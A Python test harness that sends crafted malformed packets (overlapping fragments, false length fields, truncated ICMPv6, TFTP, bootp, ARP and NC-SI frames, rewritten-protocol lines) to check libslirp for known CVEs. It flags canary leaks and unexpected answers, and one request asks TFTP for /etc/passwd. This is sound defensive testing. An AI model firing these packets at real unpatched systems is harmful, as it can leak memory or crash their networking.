#!/usr/bin/env python3
"""The packets of libslirp's known holes: frames.py serve LOG, frames.py attack GATEWAY GATEWAY6 SERVER PORT PORT…

`serve` runs outside: it prints a port where datagrams are sent back, and those that it has got of the ports whose protocols libslirp rewrites
where it is let; what came to them it writes down, but for markers. `attack` runs in the network namespace of a container that
has a libslirp of its own, with all capabilities over it. It prints what came back that must not: bytes that were not sent (LEAK) and answers
to what no one is to see (ANSWERED). Before each attack the helper's memory is filled with a word, so that what leaks can be told.

CVE-2020-1983, CVE-2019-14378 and -15890 (fragments), CVE-2020-7039, -8608 and CVE-2019-6778 (rewritten protocols), CVE-2020-10756 (ICMPv6
echo), CVE-2021-3592 (bootp), -3593 (UDP over IPv6), -3594 (UDP), -3595 (TFTP), CVE-2020-29129 (NC-SI), -29130 (ARP).
"""
import hashlib, select, socket, struct, sys, time

from packets import checksum, own_mac, with_sum

WORD = b"CANARY!!"
MARKER = b"marker "  # what is sent to see that everything before it has been dealt with
AT_ONCE = 200  # frames; the link keeps no more than 500 for a helper that is not on a processor just now, and drops the others
OWN, OWN6 = "10.0.2.100", "fd00:10:2::100"
REWRITTEN = {21: "ftp", 113: "ident", 543: "klogin", 544: "kshell", 6667: "irc", 6668: "irc", 7070: "realaudio"}
ETH_IP, ETH_ARP, ETH_IP6, ETH_NCSI = 0x0800, 0x0806, 0x86DD, 0x88F8
ICMP, TCP, UDP, ICMP6 = 1, 6, 17, 58



def digest(data):
    return f"{len(data)} {hashlib.sha256(data).hexdigest()[:16]}"


# ---- outside ----


def listen(socks, port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.bind(("", port))
    except OSError:  # not ours to have, or somebody's
        return
    s.listen(16)
    socks[s] = port


def serve(log_name):
    log = open(log_name, "a", buffering=1)
    socks, open_streams = {}, {}
    udp, port = None, 0
    while port not in socks.values():  # one port that is free for both
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("", 0))
        port = udp.getsockname()[1]
        listen(socks, port)
    for p in REWRITTEN:
        listen(socks, p)
    print(port, *[p for p in socks.values() if p != port], flush=True)
    while True:
        for s in select.select([udp, *socks, *open_streams], [], [])[0]:
            if s is udp:
                data, peer = s.recvfrom(65536)
                if not data.startswith(MARKER):
                    log.write(f"udp {data.hex()}\n")
                s.sendto(data, peer)
            elif s in socks:
                open_streams[s.accept()[0]] = (socks[s], bytearray())
            else:
                p, got = open_streams[s]
                try:
                    data = s.recv(65536)
                except OSError:
                    data = b""
                got += data
                if not data:
                    log.write(f"tcp {p} {digest(got)}\n")
                    s.close()
                    del open_streams[s]


# ---- packets; what is said of a length need not be true ----


def ip4(dst, proto, body, said=None, frag=0, ident=7, ttl=64, options=b"", src=OWN):
    length = 20 + len(options) + len(body) if said is None else said
    head = struct.pack("!BBHHHBBH4s4s", 0x45 + len(options) // 4, 0, length & 0xFFFF, ident, frag, ttl, proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
    head += options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def ip6(dst, proto, body, said=None):
    return struct.pack("!IHBB", 6 << 28, len(body) if said is None else said, proto, 64) + socket.inet_pton(socket.AF_INET6, OWN6) + socket.inet_pton(socket.AF_INET6, dst) + body


def echo4(data, ident=1):
    message = struct.pack("!BBHHH", 8, 0, 0, ident, 1) + data
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


def echo6(dst, data, said=None):
    """The sum is over as much as the length says, of zeros beyond the end: what a reader too far would take for right."""
    head = struct.pack("!BBHHH", 128, 0, 0, 1, 1)
    src, to = (socket.inet_pton(socket.AF_INET6, a) for a in (OWN6, dst))
    full = head + data
    n = len(full) if said is None else said
    total = checksum(src + to + struct.pack("!IHBB", n, 0, 0, ICMP6) + full + bytes(max(0, n - len(full))))
    return full[:2] + struct.pack("!H", total) + full[4:]


def udp4(dst, sport, dport, data, said=None):
    s, d = socket.inet_aton(OWN), socket.inet_aton(dst)
    if said is not None:  # without a sum, which IPv4 allows
        return struct.pack("!HHHH", sport, dport, said & 0xFFFF, 0) + data
    return with_sum(UDP, s, d, struct.pack("!HHHH", sport, dport, 8 + len(data), 0), data, 6)


def udp6(dst, sport, dport, data, said=None):
    s, d = socket.inet_pton(socket.AF_INET6, OWN6), socket.inet_pton(socket.AF_INET6, dst)
    return with_sum(UDP, s, d, struct.pack("!HHHH", sport, dport, 8 + len(data) if said is None else said, 0), data, 6)


def bootp(kind):
    return struct.pack("!BBBBIHH16x6s10x64x128xI", 1, 1, 6, 0, 1234, 0, 0x8000, b"\x02BCANA", 0x63825363) + bytes([53, 1, kind, 255]) + bytes(60)


# ---- inside ----


class Link:
    def __init__(self, gateway, server, port):
        self.server, self.port = server, port
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.sock.bind(("eth0", 0))
        self.head = bytes([2, 0x42]) + socket.inet_aton(gateway) + own_mac(self.sock)
        self.own = own_mac(self.sock)
        self.sent, self.markers, self.count, self.bad = [], [], 0, 0

    def send(self, kind, packet):
        self.sent.append(packet)
        self.count += 1
        self.put(kind, packet)

    def put(self, kind, packet):
        for _ in range(100):
            try:
                self.sock.send(self.head + struct.pack("!H", kind) + packet)
                return
            except OSError:  # the queue is full
                time.sleep(0.001)

    def receive(self):
        """A frame that came, None: it is one of ours that went out."""
        try:
            data, at = self.sock.recvfrom(65536)
        except OSError as e:
            sys.exit(f"SILENT the link: {e}: the helper has died")
        return None if at[2] == 4 else data  # PACKET_OUTGOING

    def marker(self, proto, packet, data, frames):
        """Sends a marker until it comes back; what comes before it is added to the frames."""
        self.markers.append(packet)
        for _ in range(60):
            self.put(ETH_IP, packet)
            end = time.monotonic() + 1
            while select.select([self.sock], [], [], max(0, end - time.monotonic()))[0]:
                frame = self.receive()
                if frame is None:
                    continue
                frames.append(frame)
                if frame[12:14] == b"\x08\0" and frame[23] == proto and frame[42 : 42 + len(data)] == data and (proto == UDP or frame[34] == 0):
                    return
        sys.exit(f"SILENT no answer to a marker for a minute: {data!r}")

    def came(self, outside=True):
        """What has come when everything sent so far has been dealt with, however long that takes: the helper takes frames in their order, and
        the server datagrams in theirs; the helper may have both a datagram's answer and others in hand, and after an echo it has none."""
        frames = []
        for proto in ([UDP] if outside else []) + [ICMP, ICMP]:
            data = MARKER + b"%d" % len(self.markers)
            packet = ip4(GATEWAY, ICMP, echo4(data)) if proto == ICMP else ip4(self.server, UDP, udp4(self.server, 4001, self.port, data))
            self.marker(proto, packet, data, frames)
        return frames

    def say(self, what, name, frame):
        self.bad += 1
        if self.bad < 20:
            print(f"{what} {name}: {frame[:200].hex()}")

    def known(self, data):
        return any(data in p for p in (*self.sent, *self.markers))

    def check(self, name, frame, may_answer):
        """One frame that came: nothing in it that was not sent, and no answer where there is to be none."""
        kind, body = struct.unpack("!H", frame[12:14])[0], frame[14:]
        if kind == ETH_ARP:
            # libslirp asks who is there; whatever follows is padding
            if WORD in frame or len(frame) > 64:
                self.say("LEAK", name, frame)
            elif body[6:8] == b"\0\2" and "arp" not in may_answer:
                self.say("ANSWERED", name, frame)
            return
        if kind not in (ETH_IP, ETH_IP6):
            self.say("ANSWERED", name, frame)
            return
        v6 = kind == ETH_IP6
        head = 40 if v6 else (body[0] & 15) * 4
        proto, content = body[6] if v6 else body[9], body[head:]
        length = struct.unpack("!H", body[4:6])[0] if v6 else struct.unpack("!H", body[2:4])[0] - head
        if proto == TCP:
            return  # the kernel's own connections
        if length > len(content) or any(content[length:]):
            self.say("LEAK", name, frame)  # what pads a frame is zeros
        content = content[:length]
        what = {(ICMP, 0): "echo", (ICMP6, 129): "echo", (ICMP, 3): "error", (ICMP, 11): "error", (ICMP6, 1): "error", (ICMP6, 2): "error", (ICMP6, 3): "error"}.get((proto, content[0]))
        if proto == UDP:
            what = "udp"
        if proto == ICMP6 and 133 <= content[0] <= 137:  # neighbours
            if WORD in content or len(content) > 64:
                self.say("LEAK", name, frame)
            return
        # of an error what is quoted, without the headers that it went on with
        data = content[8:] if what != "error" else content[8 + (40 if v6 else 20) :]
        if not self.known(data):
            self.say("LEAK", name, frame)
        elif what not in may_answer and not data.startswith(MARKER):
            self.say("ANSWERED", name, frame)

    def attack(self, name, frames, may_answer=()):
        fill(self)
        self.came()
        self.sent, answers = [], []
        for i, (kind, packet) in enumerate(frames, 1):
            self.send(kind, packet)
            if i % AT_ONCE == 0:
                answers += self.came(outside=False)
        for frame in answers + self.came():
            self.check(name, frame, may_answer)
        print(f"tried {name}: {len(frames)} frames")


def fill(link):
    """The helper's memory, as far as it goes, with the word."""
    for size in (0, 8, 100, 600, 1400):
        for _ in range(10):
            link.send(ETH_IP, ip4(GATEWAY, ICMP, echo4((WORD * 200)[:size])))
            link.send(ETH_IP6, ip6(GATEWAY6, ICMP6, echo6(GATEWAY6, (WORD * 200)[:size])))


def must(what, frames, test):
    if not any(test(f) for f in frames):
        print(f"SILENT {what}: {len(frames)} frames came")


def alive(link, server, port, when):
    """What is right is answered, with what was sent."""
    data = b"well-formed " + when.encode()
    link.came()
    link.sent = []
    link.send(ETH_IP, ip4(GATEWAY, ICMP, echo4(data)))
    link.send(ETH_IP6, ip6(GATEWAY6, ICMP6, echo6(GATEWAY6, data)))
    link.send(ETH_IP, ip4(server, UDP, udp4(server, 4000, port, data)))
    link.send(ETH_ARP, arp(GATEWAY))
    frames = link.came()
    must(f"IPv4 echo {when}", frames, lambda f: f[12:14] == b"\x08\0" and f[23] == ICMP and f[34] == 0 and f[42 : 42 + len(data)] == data)
    must(f"IPv6 echo {when}", frames, lambda f: f[12:14] == b"\x86\xdd" and f[20] == ICMP6 and f[54] == 129 and f[62 : 62 + len(data)] == data)
    must(f"datagram {when}", frames, lambda f: f[12:14] == b"\x08\0" and f[23] == UDP and f[42 : 42 + len(data)] == data)
    must(f"ARP {when}", frames, lambda f: f[12:14] == b"\x08\x06" and f[20:22] == b"\0\2")
    for f in frames:
        link.check(when, f, ("echo", "udp", "arp"))
    with socket.create_connection((server, port), timeout=60) as s:
        s.sendall(data)


def arp(target, op=1):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("eth0", 0))
        return struct.pack("!HHBBH6s4s6x4s", 1, ETH_IP, 6, 4, op, own_mac(s), socket.inet_aton(OWN), socket.inet_aton(target))


def fragments(dst):
    """As offset in eights, more to come, data: whole, overlapping, with holes, far too long, empty, with options."""
    message = echo4(bytes(range(256)) * 12, 99)
    sets = [
        [(0, 1, message[:1400]), (175, 1, message[1400:2800]), (350, 0, message[2800:])],
        [(0, 1, message[:1400]), (100, 1, message[:1400]), (50, 0, message[:1000])],
        [(175, 0, message[1400:2800]), (0, 1, message[:1400])],
        [(0, 1, message[:1400])] + [(i * 175, 1, message[:1400]) for i in range(1, 46)] + [(8060, 0, message[:1400])],
        [(8189, 0, message[:1400]), (0, 1, message[:1400]), (8191, 0, message[:8])],
        [(0, 1, b""), (0, 0, message[:64])],
        [(0, 1, message[:8]), (1, 1, message[8:16]), (1, 0, message[8:1024])],
        [(0, 0x2000 >> 13, message[:48]), (6, 0, message[48:1424])],
    ]
    ident = 1000
    for _ in range(10):
        for s in sets:
            for options in (b"", b"\x01" * 40):
                ident += 1
                for offset, more, data in s:
                    yield ETH_IP, ip4(dst, ICMP, data[: 1480 - len(options)], frag=more << 13 | offset, ident=ident, options=options)
    # the flag that no packet has, and of a datagram for a server outside
    yield ETH_IP, ip4(dst, ICMP, message[:64], frag=0x8000 | 0x2000)


def short_messages(server, port):
    """Lengths that say more, or less, than there is."""
    for n in (0, 1, 4, 7, 8, 20):
        for said in (20, 24, 28, 60, 600, 1480, 65535):
            yield ETH_IP, ip4(GATEWAY, ICMP, echo4(b"x" * n)[:n], said=said)
            yield ETH_IP, ip4(server, UDP, udp4(server, 4001, port, b"", said=8)[:n], said=said)
    for n in range(8):
        yield ETH_IP, ip4(server, UDP, udp4(server, 4001, port, b"")[:n])
    for said in (9, 100, 600, 1400, 65535):
        yield ETH_IP, ip4(server, UDP, udp4(server, 4001, port, b"", said=said))
        yield ETH_IP, ip4(server, UDP, udp4(server, 4001, port, b"ab", said=said + 2))
    for n in range(20):
        yield ETH_IP, ip4(GATEWAY, ICMP, b"")[:n]
    yield ETH_IP, ip4(server, UDP, udp4(server, 4001, port, b"late"), ttl=0)


def short_messages6():
    for sent in (0, 8, 200):
        for said in (0, 4, 8, sent + 16, sent + 1000, 1400, 1452, 65535):
            yield ETH_IP6, ip6(GATEWAY6, ICMP6, echo6(GATEWAY6, b"z" * sent, said=said), said=said)
    for n in range(8):
        yield ETH_IP6, ip6(GATEWAY6, ICMP6, echo6(GATEWAY6, b"")[:n])
    for n in range(40):
        yield ETH_IP6, ip6(GATEWAY6, ICMP6, b"")[:n]
    for kind in (133, 134, 135, 136, 137):  # neighbour discovery that ends early
        for n in (4, 8, 20, 24, 30):
            body = struct.pack("!BBHI", kind, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, GATEWAY6) + b"\x01\xff" + bytes(20)
            yield ETH_IP6, ip6("ff02::1", ICMP6, body[:n], said=64)


def boots(to, to6):
    """TFTP, bootp and DHCP of IPv6, whole and cut off."""
    rrq = b"\0\1/etc/passwd\0octet\0blksize\x00512\0"
    for data in [rrq[:n] for n in (0, 1, 2, 3, 10, len(rrq))] + [b"\0\4\0\1", b"\0\4", b"\0\1" + b"a" * 600]:
        for dst in to:
            yield ETH_IP, ip4(dst, UDP, udp4(dst, 4002, 69, data))
            yield ETH_IP, ip4(dst, UDP, udp4(dst, 4002, 69, data, said=8 + len(data) + 500))
        for dst in to6:
            yield ETH_IP6, ip6(dst, UDP, udp6(dst, 4002, 69, data))
            yield ETH_IP6, ip6(dst, UDP, udp6(dst, 4002, 69, data, said=8 + len(data) + 500), said=8 + len(data))
    for kind in (1, 3):
        whole = bootp(kind)
        for n in (0, 1, 28, 44, 236, 240, 243, len(whole)):
            for dst in to:
                yield ETH_IP, ip4(dst, UDP, udp4(dst, 68, 67, whole[:n]))
    for n in range(8):
        for dst in to6:
            yield ETH_IP6, ip6(dst, UDP, udp6(dst, 4002, 69, b"")[:n])
            yield ETH_IP6, ip6(dst, UDP, udp6(dst, 546, 547, b"\x0b\0\0\1")[:n])
    for dst in to6:
        yield ETH_IP6, ip6(dst, UDP, udp6(dst, 546, 547, b"\x0b\0\0\1\0\6\0\2\0\x3b"))


def short_links():
    for n in range(28):
        yield ETH_ARP, arp(GATEWAY)[:n]
    for n in (0, 1, 3, 4, 8, 15, 16, 20, 60):
        for kind in (0, 1, 2, 4, 0x15, 0x50, 0x7F, 0xFF):
            yield ETH_NCSI, (struct.pack("!BBBBBBH8x", 0, 1, 0, 1, kind, 0, 0) + bytes(60))[:n]


def rewritten(server, ports):
    """Lines that ask to be rewritten, alone and where the rewritten one would not fit; and they arrive as they are."""
    own = struct.unpack("!I", socket.inet_aton(OWN))[0]
    lines = [
        f"DCC CHAT chat {own} 4000\x01\n",
        f"DCC SEND f {own} 4000 1\x01\n",
        f"DCC MOVE f {own} 4000 1\x01\n",
        "PORT 10,0,2,100,15,160\r\n",
        "227 Entering Passive Mode (10,0,2,100,15,160)\r\n",
        "4000, 6667\r\n",
        "4000\0",
    ]
    realaudio = b"PNA\x00\x0a" + struct.pack("!HHH", 1, 2, 4000) + b"\0" * 90
    whole = [l.encode() for l in lines] + [realaudio] + [l.encode() * 30 for l in lines]
    whole += [b"x" * (n - len(l)) + l.encode() for l in lines for n in (512, 1400, 1460, 1500, 2920)]
    for port in ports:
        for data in whole:
            with socket.create_connection((server, port), timeout=60) as s:
                s.sendall(data)
                s.shutdown(socket.SHUT_WR)
                s.recv(1)  # it was read to the end
            print(f"sent tcp {port} {digest(data)}")


def main():
    global GATEWAY, GATEWAY6
    if sys.argv[1] == "serve":
        serve(sys.argv[2])
    GATEWAY, GATEWAY6, server, port = sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5])
    ports = [int(p) for p in sys.argv[6:]]
    link = Link(GATEWAY, server, port)
    alive(link, server, port, "before")
    link.attack("fragments", list(fragments(GATEWAY)))
    link.attack("lengths", list(short_messages(server, port)), ("echo", "error", "udp"))
    link.attack("lengths over IPv6", list(short_messages6()), ("echo", "error"))
    link.attack("boots", list(boots([GATEWAY, "255.255.255.255", "10.0.2.3", "10.0.2.255"], [GATEWAY6, "fe80::2", "ff02::1", "ff02::1:2"])))
    link.attack("links", list(short_links()))
    rewritten(server, ports)
    alive(link, server, port, "after")
    print(f"done, {link.count} frames")


main()
